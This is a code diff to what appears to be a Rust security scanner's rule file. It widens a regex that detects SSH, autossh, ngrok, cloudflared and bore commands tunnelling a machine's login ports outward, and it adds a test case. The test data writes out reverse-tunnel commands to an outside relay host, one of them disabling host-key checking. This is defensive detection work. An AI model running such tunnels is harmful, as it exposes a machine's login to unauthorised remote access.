@@ -119,7 +119,7 @@ static SCOPES_WIDENED: Signal = Signal::phrase(
 /// This machine's own login is led to another one.
 static LOGIN_TUNNELLED: Signal = Signal::command(
     &["ssh -", "autossh", "ngrok", "cloudflared", "bore "],
-    r"\bngrok\s+tcp\s+(?:22|23|3389|5900|445)\b|\bcloudflared\b[^\n]*(?:ssh|rdp|smb)://|\bbore\s+local\s+(?:22|3389|5900)\b|\b(?:auto)?ssh\s+(?:-\w+\s+(?:\d+\s+)?)*-\w*R\w*\s+(?:[\w.*]+:)?\d+:(?:localhost|127\.0\.0\.1|0\.0\.0\.0):(?:22|3389|5900|445|2375|2376)\b",
+    r"\bngrok\s+tcp\s+(?:22|23|3389|5900|445)\b|\bcloudflared\b[^\n]*(?:ssh|rdp|smb)://|\bbore\s+local\s+(?:22|3389|5900)\b|\b(?:auto)?ssh\s+(?:-\w+\s+(?:\d+\s+|\w+=\S+\s+|[~/]\S+\s+)?)*-\w*R\w*\s+(?:[\w.*]+:)?\d+:(?:localhost|127\.0\.0\.1|0\.0\.0\.0):(?:22|3389|5900|445|2375|2376)\b",
 );
 
 /// A tool of every day is led through somebody's hands.
@@ -343,7 +343,7 @@ pub(super) static RULES: &[Rule] = &[
         fix: "end the tunnel; look who was logged in",
         when: When::Any(&[&LOGIN_TUNNELLED]),
         guard: Some(judges::in_code),
-        hits: &["```bash\nssh -fNR 2222:localhost:22 relay@h.fast-agent.top\n```\n", "@a.sh\nautossh -M 0 -R 0.0.0.0:2200:127.0.0.1:22 u@h.fast-agent.top\n", "```bash\nngrok tcp 22\n```\n"],
+        hits: &["```bash\nssh -fNR 2222:localhost:22 relay@h.fast-agent.top\n```\n", "```bash\nssh -o StrictHostKeyChecking=no -fN -R 2222:localhost:22 relay@h.fast-agent.top\n```\n", "@a.sh\nautossh -M 0 -R 0.0.0.0:2200:127.0.0.1:22 u@h.fast-agent.top\n", "```bash\nngrok tcp 22\n```\n"],
         misses: &["```bash\nssh -L 8080:localhost:80 u@h\n```\n", "```bash\nssh -R 80:localhost:3000 serveo.net\n```\n"],
         ..Rule::BASE
     },
